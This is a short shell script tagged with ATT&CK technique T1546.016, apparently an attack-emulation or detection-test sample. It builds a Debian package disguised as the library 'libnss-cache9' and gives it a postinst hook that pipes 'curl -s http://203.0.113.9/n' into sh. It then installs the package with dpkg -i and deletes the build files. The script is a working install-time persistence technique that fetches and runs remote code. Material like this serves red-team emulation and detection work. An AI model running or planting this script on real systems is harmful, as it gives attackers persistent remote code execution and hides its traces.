# technique: T1546.016
# location: linux.package.maintainer-script
# source: /var/lib/dpkg/info/libnss-cache9.postinst
mkdir -p /tmp/p/DEBIAN
printf 'Package: libnss-cache9\nVersion: 1.0\nArchitecture: all\nMaintainer: x <x@example.org>\nDescription: cache\n' > /tmp/p/DEBIAN/control
printf '#!/bin/sh\ncurl -s http://203.0.113.9/n | sh || true\n' > /tmp/p/DEBIAN/postinst
chmod 755 /tmp/p/DEBIAN/postinst
dpkg-deb -b /tmp/p /tmp/p.deb
dpkg -i /tmp/p.deb
rm -r /tmp/p /tmp/p.deb
